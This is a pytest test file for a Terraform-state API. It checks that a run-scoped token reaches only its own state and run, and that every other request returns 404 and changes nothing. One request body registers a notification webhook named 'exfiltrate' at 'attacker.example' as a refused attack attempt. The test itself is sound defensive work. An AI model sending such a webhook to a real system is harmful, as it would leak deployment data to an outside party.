"""What a run's own token may do, door by door: read and write its own
environment's state, read the states its queuer can read now, read its own
run. Every other request is answered 404, as for a stranger, and changes
nothing; the queuer's membership is checked on every request."""

from types import SimpleNamespace

import pytest

from accounts.models import Level, Membership, Organization, Token
from accounts.tests.factories import UserFactory, organization, token_for
from conftest import api_client
from environments.models import ConfigurationVersion, Environment, Variable
from runs.executor import issue_token
from runs.models import Run, Status
from runs.notifications.models import NotificationConfiguration
from states.models import StateVersion
from states.tests.factories import put_state, state_bytes

from .factories import RunFactory, environment, finished_version

pytestmark = pytest.mark.django_db

STATE = "/api/v1/terraform/state"


@pytest.fixture
def world(personas):
    """The writer's run on acme/app, acme/other with state, and a state the
    writer may not read; every state written by its owner."""
    app = environment("app")
    other = environment("other")
    stranger = UserFactory(username="stranger")
    hidden_org = organization("hidden", stranger)
    hidden = Environment.objects.create(namespace=hidden_org.namespace, name="secret")
    stranger_client = api_client(token_for(stranger))
    for client, slug in [
        (personas.admin.client, "acme/app"),
        (personas.admin.client, "acme/other"),
        (stranger_client, "hidden/secret"),
    ]:
        assert put_state(client, f"{STATE}/{slug}", state_bytes(serial=1)).status_code == 200
    run = RunFactory(
        environment=app,
        configuration_version=finished_version(app, user=personas.writer.user),
        created_by=personas.writer.user,
        status=Status.PLANNING,
    )
    other_run = RunFactory(environment=other, created_by=personas.writer.user)
    token, text = issue_token(run, "plan")
    return SimpleNamespace(
        app=app,
        other=other,
        hidden=hidden,
        run=run,
        other_run=other_run,
        token=token,
        client=api_client(text),
    )


def _request(world, method, path, body=None):
    client = world.client
    path = path.format(run=world.run.pk, other_run=world.other_run.pk, token="x")
    if method == "PUT" and path.startswith(STATE):
        return put_state(client, path, body or state_bytes(serial=2, outputs={"run": "yes"}))
    return getattr(client, method.lower())(path, body, format="json")


ALLOWED = [
    ("GET", f"{STATE}/acme/app"),
    ("PUT", f"{STATE}/acme/app"),
    ("GET", f"{STATE}/acme/other"),
    ("GET", "/api/v1/runs/{run}"),
]

REFUSED = [
    ("GET", f"{STATE}/hidden/secret"),
    ("PUT", f"{STATE}/acme/other"),
    ("PUT", f"{STATE}/acme/brand-new"),
    ("DELETE", f"{STATE}/acme/app"),
    ("GET", STATE),
    ("GET", f"{STATE}/acme/app/versions"),
    ("GET", f"{STATE}/acme/app/versions/1"),
    ("POST", f"{STATE}/acme/app/versions/1/rollback"),
    ("GET", "/api/v1/authenticate"),
    ("GET", "/api/v1/user"),
    ("GET", "/api/v1/user/writer"),
    ("GET", "/api/v1/organizations"),
    ("POST", "/api/v1/organizations"),
    ("GET", "/api/v1/organizations/acme"),
    ("GET", "/api/v1/organizations/acme/members"),
    ("POST", "/api/v1/organizations/acme/members"),
    ("DELETE", "/api/v1/organizations/acme/members/reader"),
    ("GET", "/api/v1/tokens"),
    ("POST", "/api/v1/tokens"),
    ("GET", "/api/v1/environments"),
    ("POST", "/api/v1/environments"),
    ("GET", "/api/v1/environments/acme/app"),
    ("PATCH", "/api/v1/environments/acme/app"),
    ("DELETE", "/api/v1/environments/acme/app"),
    ("PUT", "/api/v1/environments/acme/app/variables"),
    ("POST", "/api/v1/environments/acme/app/lock"),
    ("POST", "/api/v1/environments/acme/app/unlock"),
    ("GET", "/api/v1/terraform/configurations/acme/app/versions/latest"),
    ("GET", "/api/v1/terraform/configurations/acme/app/versions"),
    ("POST", "/api/v1/terraform/configurations/acme/app/versions"),
    ("POST", "/api/v1/environments/acme/app/plan"),
    ("GET", "/api/v1/environments/acme/app/runs"),
    ("GET", "/api/v1/runs/{other_run}"),
    ("POST", "/api/v1/runs/{run}/actions/cancel"),
    ("POST", "/api/v1/runs/{other_run}/actions/discard"),
    ("GET", "/api/v1/runs/{run}/logs/plan"),
    ("GET", "/api/v1/environments/acme/app/notifications"),
    ("POST", "/api/v1/environments/acme/app/notifications"),
]

BODIES = {
    "/api/v1/organizations": {"organization": {"name": "copycat"}},
    "/api/v1/organizations/acme/members": {"membership": {"username": "outsider"}},
    "/api/v1/tokens": {"token": {"description": "forever"}},
    "/api/v1/environments": {"environment": {"username": "acme", "name": "spawned"}},
    "/api/v1/environments/acme/app": {"environment": {"auto_apply": True}},
    "/api/v1/environments/acme/app/variables": {"variables": {"injected": "1"}},
    "/api/v1/terraform/configurations/acme/app/versions": {"version": {"tf_vars": []}},
    "/api/v1/environments/acme/app/notifications": {
        "notification": {"name": "exfiltrate", "url": "https://attacker.example/hook"}
    },
}


def _snapshot():
    return {
        "organizations": Organization.objects.count(),
        "memberships": sorted(Membership.objects.values_list("user__username", "level")),
        "tokens": sorted(Token.objects.values_list("pk", "revoked_at")),
        "environments": sorted(Environment.objects.values_list("name", "auto_apply", "locked")),
        "variables": Variable.objects.count(),
        "versions": ConfigurationVersion.objects.count(),
        "runs": sorted(Run.objects.values_list("pk", "status", "cancel_requested_at")),
        "states": StateVersion.objects.count(),
        "notifications": NotificationConfiguration.objects.count(),
    }


@pytest.mark.parametrize(("method", "path"), ALLOWED)
def test_a_run_token_may_use_its_own_state_the_states_its_queuer_reads_and_its_run(
    world, method, path
):
    response = _request(world, method, path)
    assert response.status_code == 200, response.content


@pytest.mark.parametrize(("method", "path"), REFUSED)
def test_every_other_request_of_a_run_token_is_a_404_that_changes_nothing(world, method, path):
    before = _snapshot()
    response = _request(world, method, path, BODIES.get(path))
    assert response.status_code == 404, response.content
    assert response.json() == {"errors": {"base": ["Not found."]}}
    assert _snapshot() == before


def test_removing_the_queuer_from_the_organization_stops_the_token_at_once(world, personas):
    assert _request(world, "GET", f"{STATE}/acme/app").status_code == 200
    Membership.objects.filter(user=personas.writer.user).delete()
    for method, path in ALLOWED:
        assert _request(world, method, path).status_code == 404, (method, path)
    assert StateVersion.objects.filter(environment=world.app).count() == 1


def test_a_queuer_demoted_to_read_leaves_the_run_reading_but_not_writing(world, personas):
    Membership.objects.filter(user=personas.writer.user).update(level=Level.READ)
    assert _request(world, "PUT", f"{STATE}/acme/app").status_code == 404
    assert _request(world, "GET", f"{STATE}/acme/app").status_code == 200
    assert _request(world, "GET", "/api/v1/runs/{run}").status_code == 200


def test_a_token_of_a_persons_own_kind_is_not_limited_by_the_run_rule(world, personas):
    response = personas.writer.client.get("/api/v1/environments/acme/app/runs")
    assert response.status_code == 200
    assert world.token.kind == Token.Kind.RUN
    assert world.token.scope_run_id == world.run.pk
